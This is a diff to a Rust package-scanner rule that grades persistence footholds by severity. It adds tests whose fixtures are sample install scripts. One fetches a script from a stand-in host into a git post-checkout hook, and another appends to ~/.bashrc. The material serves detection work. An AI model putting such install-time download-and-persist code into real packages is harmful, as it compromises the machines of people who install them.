@@ -14,9 +14,11 @@ crate::declare_rule! {
     /// Options, macOS login items), a reverse SSH tunnel (`ssh -R`). Scheduler tools do this when
     /// asked (`medium`); it is `critical` when it runs at install time or sits beside network
     /// code in the same file (download, then persist). Footholds that legitimate tools set up on
-    /// request count only at install time: AI agent and editor configuration (`.claude/settings.json`
-    /// hooks, MCP configs, `.vscode/tasks.json`), git hooks, a service worker written into the
-    /// app's `public` folder.
+    /// request count only at install time, and are `high` there unless the same file has network
+    /// code (git hook managers such as pre-commit and husky 4 write `.git/hooks` from
+    /// `postinstall`): AI agent and editor configuration (`.claude/settings.json` hooks, MCP
+    /// configs, `.vscode/tasks.json`), git hooks, a service worker written into the app's
+    /// `public` folder.
     id: "persistence",
     category: Other,
     severity: Medium,
@@ -215,7 +217,8 @@ fn check(pkg: &Package, out: &mut Emitter) {
             first.get_or_insert(m.start());
         }
         let install = pkg.is_install_file(f);
-        if found.is_empty() && install {
+        let weak_only = found.is_empty();
+        if weak_only && install {
             for (label, re) in weak {
                 if let Some(m) = re.find(text) {
                     found.push(label);
@@ -228,7 +231,11 @@ fn check(pkg: &Package, out: &mut Emitter) {
         }
         let off = first.filter(|o| *o < f.text.len()).unwrap_or(0) as u32;
         let net = crate::rules::data::has_network(f);
-        let sev = if install || net {
+        // A weak foothold alone is what hook managers do at install (pre-commit, pre-push, husky
+        // 4 write .git/hooks from postinstall): worth a look, damning only beside network code.
+        let sev = if weak_only && !net {
+            Severity::High
+        } else if install || net {
             Severity::Critical
         } else {
             Severity::Medium
@@ -247,5 +254,48 @@ fn check(pkg: &Package, out: &mut Emitter) {
             off,
             format!("makes code start again later via {}{why}", found.join(", ")),
         );
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::model::{Limits, Severity};
+    use crate::package::Package;
+    use crate::rules::Emitter;
+
+    fn severities(install_js: &str) -> Vec<Severity> {
+        let files = vec![
+            (
+                "package.json".to_string(),
+                br#"{"name":"hooks","version":"1.0.0","scripts":{"install":"node install.js"}}"#
+                    .to_vec(),
+            ),
+            ("install.js".to_string(), install_js.as_bytes().to_vec()),
+        ];
+        let pkg = Package::build(files, Vec::new(), None, &Limits::default());
+        let mut out = Emitter::new(super::RULE.meta);
+        (super::RULE.check)(&pkg, &mut out);
+        out.hits.iter().map(|h| h.severity).collect()
+    }
+
+    /// pre-commit 1.2.2 and pre-push 0.1.4 write their hook into `.git/hooks` from `install`:
+    /// a foothold worth a look, not malware.
+    #[test]
+    fn a_git_hook_manager_writing_its_hook_at_install_is_high_not_critical() {
+        let hook_manager = "var fs = require('fs'), path = require('path');\n\
+            var hooks = path.resolve(root, '.git', 'hooks');\n\
+            fs.writeFileSync(path.join(hooks, 'pre-commit'), hookScript);\n";
+        assert_eq!(severities(hook_manager), vec![Severity::High]);
+        let with_download = format!(
+            "{hook_manager}require('https').get('https://h.example/p.sh', r => r.pipe(fs.createWriteStream(hooks + '/post-checkout')));\n"
+        );
+        assert_eq!(severities(&with_download), vec![Severity::Critical]);
+    }
+
+    /// A strong foothold at install time stays critical without any network code.
+    #[test]
+    fn a_shell_rc_written_at_install_is_critical() {
+        let rc = "const fs = require('fs');\nfs.appendFileSync(require('os').homedir() + '/.bashrc', line);\n";
+        assert_eq!(severities(rc), vec![Severity::Critical]);
     }
 }
